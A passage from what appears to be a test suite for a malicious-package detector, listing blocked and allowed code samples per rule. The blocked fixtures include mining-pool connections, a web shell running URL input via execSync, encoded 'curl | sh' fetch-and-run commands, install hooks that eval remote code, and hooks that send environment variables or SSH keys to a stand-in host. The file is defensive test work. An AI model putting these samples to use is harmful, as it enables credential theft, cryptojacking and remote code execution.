          fs.symlinkSync(require("@samplejs/core").folder, at);`,
      },
    },
    "a link where nothing is": `
      const fs = require("fs"), path = require("path");
      const at = path.join(process.env.APP_ROOT, "node_modules", "tool");
      if (!fs.existsSync(at)) fs.symlinkSync(process.env.APP_OTHER, at, "dir");`,
    "a patch tool": asCommand(
      `require("fs").writeFileSync(process.cwd() + "/node_modules/express/index.js", require("fs").readFileSync("patches/a"));`,
    ),
    "its own files": atInstall(
      `require("fs").writeFileSync(require("path").join(__dirname, "lib", "data.json"), "{}");`,
    ),
  },
});

describeVerdicts("EXE-13", {
  blocks: {
    "work in a pool of workers": {
      files: {
        "index.js": `
          const { Worker } = require("worker_threads");
          const { cpus } = require("os");
          Array.from({ length: Math.max(1, cpus().length - 1) }, () => new Worker(new URL("./w.js", "file://" + __filename)));`,
        "w.js": `
          const s = require("net").connect(3333, "pool.example.test");
          s.on("connect", () => s.write(JSON.stringify({ method: "login", params: { login: "4", agent: "m/6" } })));`,
      },
    },
    "work in a pool of a library": {
      files: {
        "index.js": `new (require("piscina"))({ filename: __dirname + "/w.js" }).run();`,
        "w.js": `
          const s = require("net").connect(3333, "pool.example.test");
          s.on("connect", () => s.write(JSON.stringify({ method: "mining.subscribe", params: [] })));`,
      },
    },
    "a pool": `require("child_process").spawn("./m", ["-o", "stratum+tcp://pool.example.test:3333", "-u", "x"]);`,
    "a pool, encoded": atInstall(
      `const a = Buffer.from("${base64("./m --donate-level 1 -o pool.example.test:3333")}", "base64").toString(); require("child_process").exec(a);`,
    ),
    "work that is asked for word by word": `
      const net = require("net");
      const s = net.connect(3333, "pool.example.test");
      s.on("connect", () => s.write(JSON.stringify({ id: 1, method: "login", params: { login: "4", pass: "x", agent: "m/6" } }) + "\\n"));`,
  },
  passes: {
    "a proof of work": `
      const { createHash } = require("crypto");
      exports.work = (s) => { let n = 0; while (!createHash("sha256").update(s + n).digest("hex").startsWith("000")) n++; return n; };`,
    "a word": `exports.protocols = ["http", "stratum"];`,
    "a worker for each core": `const os = require("os"), { Worker } = require("worker_threads"); exports.pool = (f) => os.cpus().map(() => new Worker(f));`,
    "a login by the same words": `
      const net = require("net");
      exports.open = (host, user) => {
        const s = net.connect(3333, host);
        s.write(JSON.stringify({ id: 1, method: "login", params: { user } }));
        return s;
      };`,
  },
});

describeVerdicts("EXE-14", {
  blocks: {
    "a server at install": atInstall(
      `require("http").createServer((q, r) => r.end("ok")).listen(8080);`,
    ),
    "the same, in the only file of a package that is all open": {
      manifest: { exports: { "./*": "./*" } },
      files: {
        "serve.js": `
          const { execSync } = require("child_process");
          require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
      },
    },
    "requests that are carried out, by another name than the package's": {
      manifest: { exports: { ".": "./index.js", "./register": "./daemon.js" } },
      files: {
        "index.js": "module.exports = (a) => a;",
        "daemon.js": `
          const { execSync } = require("child_process");
          require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
      },
    },
    "requests that are carried out": `
      const { execSync } = require("child_process");
      require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
  },
  passes: {
    "a program that is started by a name of its own": {
      manifest: { exports: { ".": "./index.js", "./hub/daemon-entry": "./daemon.js" } },
      files: {
        "index.js": "module.exports = (a) => a;",
        "daemon.js": `
          const { execSync } = require("child_process");
          require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
      },
    },
    "what it asked of others, kept beside a server": `
      const fs = require("fs");
      require("http").createServer((q, r) => r.end("ok")).listen(0);
      fetch("https://files.example.test/version").then((r) => r.text()).then((text) => fs.writeFileSync("version.txt", text));`,
    "a folder of the caller's, served by what the caller mounts": `
      const fs = require("fs"), path = require("path");
      exports.preview = (settings) => (req, res) =>
        fs.createReadStream(path.join(settings.folder, decodeURI(req.url))).pipe(res);`,
    "a server of the caller": `exports.serve = (port) => require("http").createServer((q, r) => r.end("ok")).listen(port);`,
    "a command": asCommand(`require("http").createServer((q, r) => r.end("ok")).listen(3000);`),
    "a page for those who work on the package": {
      manifest: { exports: { ".": "./index.js", "./*": "./*" } },
      files: {
        "index.js": "module.exports = (a) => a;",
        "dev/serve.js": `
          const fs = require("fs"), path = require("path");
          require("http").createServer((q, r) => fs.readFile(path.join(__dirname, "..", q.url), (e, d) => r.end(d))).listen(8080);`,
      },
    },
    "a middleware": `module.exports = (req, res, next) => { res.setHeader("x", "1"); next(); };`,
  },
});

/** What Rust's tools write beside a module, with one function of it given. */
function bindings(one: string): string {
  const others = Array.from({ length: 12 }, (_, at) => {
    const name = `__wbg_get_${at.toString(16).padStart(16, "0")}`;
    return `module.exports.${name} = function (a, b) { return heap.push(Reflect.get(heap[a], heap[b])); };`;
  });
  return `
    const heap = [], decoder = new TextDecoder("utf-8");
    let wasm;
    const text = (at, length) => decoder.decode(new Uint8Array(wasm.memory.buffer).subarray(at, at + length));
    ${others.join("\n    ")}
    ${one}
    const bytes = require("fs").readFileSync(require("path").join(__dirname, "codec_bg.wasm"));
    wasm = new WebAssembly.Instance(new WebAssembly.Module(bytes), { wbg: module.exports }).exports;`;
}

const newFunction = "__wbg_newnoargs_105ed471475aaf50";

/** What C++'s tools write around a module: a function for each of its own that converts what it takes. */
function wires(make: string): string {
  return `
    const bytes = require("fs").readFileSync(require("path").join(__dirname, "codec.wasm"));
    let memory;
    const text = (at, length) => Buffer.from(memory.buffer).toString("utf8", at, at + length);
    const types = {};
    const register = (id, at, length, size) => {
      types[id] = { name: text(at, length), argPackAdvance: size, fromWireType: (x) => x, toWireType: (_, x) => x };
    };
    function newFunc(constructor, list) {
      if (!(constructor instanceof Function)) {
        throw new TypeError("new_ called with constructor type " + typeof constructor + " which is not a function");
      }
      const dummy = function () {};
      dummy.prototype = constructor.prototype;
      const obj = new dummy();
      const made = constructor.apply(obj, list);
      return made instanceof Object ? made : obj;
    }
    const invoker = (ids, fn) => {
      const list = ids.map((id) => types[id] || text(id, 4));
      let body = "return function (a) { return ";
      for (const type of list) body += "type" + type.argPackAdvance + ".fromWireType(fn(";
      ${make}
    };
    WebAssembly.instantiate(bytes, { env: { register, invoker } }).then(({ instance }) => {
      memory = instance.exports.memory;
      exports.codec = instance.exports;
    });`;
}

describeVerdicts("EXE-15", {
  blocks: {
    "a binding that runs the text at once": bindings(
      `module.exports.${newFunction} = function (at, length) { return new Function(text(at, length))(); };`,
    ),
    "the same function of a text that is put in at once": wires(
      "return newFunc.call(null, Function, ['x']), new Function(body + text(ids[0], 99));",
    ),
    "text that is run beside bindings of C++": wires(
      "return new Function(body + text(ids[0], 99));",
    ),
    "a name that brings a body of its own": wires(
      'return new Function("body", "return function " + body + text(ids[0], 99))(fn);',
    ),
    "text that is run where a linker merely is spoken of": `
      // dylink __wasm_apply_data_relocs GOT.mem __memory_base
      const bytes = require("fs").readFileSync(__dirname + "/codec.wasm");
      const memory = new WebAssembly.Memory({ initial: 1 });
      const run = (at, length) => eval(Buffer.from(memory.buffer).toString("utf8", at, at + length) + at);
      new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { memory, run } }).exports.start();`,
    "text that is evaluated beside them": wires("return eval(body + text(ids[0], 99));"),
    "a binding that evaluates": bindings(
      `module.exports.__wbg_eval_105ed471475aaf50 = function (at, length) { return eval(text(at, length)); };`,
    ),
    "text out of its memory is run": `
      const bytes = require("fs").readFileSync(__dirname + "/codec.wasm");
      const memory = new WebAssembly.Memory({ initial: 1 });
      const run = (at, length) => eval(Buffer.from(memory.buffer).toString("utf8", at, at + length) + at);
      new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { memory, run } }).exports.start();`,
    "a shell is handed over": `
      const bytes = require("fs").readFileSync(__dirname + "/codec.wasm");
      WebAssembly.instantiate(bytes, { host: { run: require("child_process").execSync } });`,
  },
  warns: {
    "a binding that makes a function, on one line": bindings(
      `module.exports.${newFunction}=function(A,g){const B=new Function(text(A,g));return heap.push(B)},module.exports.__wbg_call_0000000000000001=function(a,b){return heap[a].call(heap[b])};`,
    ),
    "a binding that makes a function": bindings(`
    module.exports.${newFunction} = function (at, length) {
      const ret = new Function(text(at, length));
      return heap.push(ret);
    };`),
    "the file system is handed over": `
      const fs = require("fs");
      WebAssembly.instantiate(fs.readFileSync(__dirname + "/a.wasm"), { host: { read: fs.readFileSync } });`,
  },
  passes: {
    "bindings of C++ that write the whole function": wires(`
      body += "x)); function check() { fail(name + ' called with ' + arguments.length + ' arguments, expected 2') }";
      body += "undo(destructors)}";
      const names = "fn";
      return new Function(names, body)(fn);`),
    "bindings of C++": wires("return newFunc(Function, ['fn', body + ')}'])(fn);"),
    "bindings of C++ that name a function": wires(
      `return new Function("body", "return function " + body + "() {\\n" + "    'use strict';" + "    return body.apply(this, arguments);\\n};")(fn);`,
    ),
    "lines of script that a linker puts in place": `
      const bytes = require("fs").readFileSync(__dirname + "/side.wasm");
      const memory = new WebAssembly.Memory({ initial: 1 });
      const scripts = {};
      const add = (at, length) => {
        if (!("__start_em_asm" in scripts) && !("__stop_em_asm" in scripts)) scripts.none = "__memory_base";
        return eval("(" + Buffer.from(memory.buffer).toString("utf8", at, at + length) + at + ")");
      };
      const names = ["dylink.0", "GOT.mem", "__wasm_apply_data_relocs"];
      new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { memory, add, names } }).exports.start();`,
    "a codec": `
      const memory = new WebAssembly.Memory({ initial: 1 });
      const abort = () => { throw new Error("abort"); };
      exports.open = (bytes) => WebAssembly.instantiate(bytes, { env: { memory, abort, log: console.log } });`,
  },
});

describeVerdicts("EXE-16", {
  blocks: {
    "a command that fetches": `require("child_process").exec("curl -s ${url} | sh");`,
    "put together": `
      const cp = require("child_process");
      const parts = ["wget -qO- ", "${url}", " | ", "bash"];
      cp.execSync(parts.join(""));`,
    encoded: `
      const c = Buffer.from("${base64(`curl ${url} -o /tmp/a && sh /tmp/a`)}", "base64").toString();
      require("node:child_process").spawnSync("sh", ["-c", c]);`,
    "in two files": {
      files: {
        "index.js": `require("./b")(require("./a"));`,
        "a.js": `module.exports = "powershell -c \\"iex (iwr ${url})\\"";`,
        "b.js": `const { exec } = require("child_process"); module.exports = (c) => exec(c);`,
      },
    },
  },
  passes: {
    "a text": `console.log("install it with: curl ${url} | sh");`,
    "a download": `exports.get = () => require("child_process").execSync("curl -fsSL ${url} -o data.json");`,
    "another command": `require("child_process").execSync("git log -1 | cat");`,
  },
});

describeVerdicts("INS-03", {
  blocks: {
    "an answer that is evaluated": atInstall(`fetch("${url}").then((r) => r.text()).then(eval);`),
    "an answer that is loaded": atInstall(
      `require("https").get("${url}", (r) => { let s = ""; r.on("data", (d) => { s += d; }); r.on("end", () => { const m = new module.constructor(); m._compile(s, "x.js"); }); });`,
    ),
    "under other names, encoded": atInstall(
      `const u = atob("${base64(url)}"); const F = (async () => {}).constructor; fetch(u).then((r) => r.text()).then((t) => new F(t)());`,
    ),
    "in the address of a module that a runtime loads first": {
      manifest: {
        scripts: {
          preinstall: `node --import "data:text/javascript,fetch('https://files.example.test').then(r=>r.text()).then(eval)" -e 0`,
        },
      },
      files: { "index.js": "" },
    },
  },
  passes: {
    "a file that is kept": atInstall(
      `fetch("${url}").then(async (r) => require("fs").writeFileSync(__dirname + "/data.json", await r.text()));`,
    ),
    "an answer that is parsed": atInstall(
      `fetch("${url}").then((r) => r.json()).then((j) => console.log(j.version));`,
    ),
    "a template": atInstall(`console.log(new Function("a", "return a + 1")(1));`),
  },
});

describeVerdicts("INS-02", {
  blocks: {
    "the environment": atInstall(
      `fetch("${url}", { method: "POST", body: JSON.stringify(process.env) });`,
    ),
    "a key": atInstall(
      `const k = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa");
       require("https").request("${url}", { method: "POST" }).end(k);`,
    ),
  },
  passes: {
    "a hook that prints": atInstall(`console.log("built on", process.env.NODE_ENV);`),
    "a token for its own service": atInstall(
      `fetch("https://api.github.com/repos/a/b/releases/latest", { headers: process.env.GITHUB_TOKEN ? { authorization: "token " + process.env.GITHUB_TOKEN } : {} }).then((r) => r.json()).then((j) => console.log(j.tag_name));`,
    ),
    "the same when called": `exports.env = () => JSON.stringify(process.env);`,
  },
});

describeVerdicts("INS-17", {
  blocks: {
    "a beacon": atInstall(
      `const os = require("os");
       const q = new URLSearchParams({ h: os.hostname(), u: os.userInfo().username, d: __dirname, n: JSON.stringify(os.networkInterfaces()) });
       require("https").get("${url}?" + q);`,
    ),
    "commands that tell": atInstall(
      `const { execSync } = require("child_process");
       const data = [execSync("whoami"), execSync("hostname"), execSync("uname -a"), execSync("ip addr")].join("\\n");
       const r = require("http").request({ host: "192.0.2.9", method: "POST" }); r.end(data);`,
    ),
    "in one line of a shell": {
      manifest: {
        scripts: {
          preinstall: 'curl -s "https://files.example.test/?h=$(hostname)&u=$(whoami)&p=$(pwd)"',
        },
      },
      files: { "index.js": "" },
    },
  },
  passes: {
    "a platform": atInstall(
      `require("https").get("${url}?p=" + process.platform + "&a=" + process.arch + "&v=" + process.version);`,
    ),
    "facts that are printed": atInstall(
      `const os = require("os"); console.log(os.hostname(), os.userInfo().username, os.release());`,
    ),
    "telemetry that is disclosed": {
      manifest: {
        name: "sample",
        homepage: "https://sample.example.test",
        scripts: { postinstall: "node t.js" },
      },
      files: {
        "t.js": `
          if (!process.env.SAMPLE_TELEMETRY_DISABLED) {
            const os = require("os");
            fetch("https://t.sample.test/v", { method: "POST", body: JSON.stringify({ v: process.version, p: os.platform(), r: os.release() }) });
          }`,
        "README.md": "Telemetry: set SAMPLE_TELEMETRY_DISABLED=1 to switch it off.",
      },
    },
  },
});
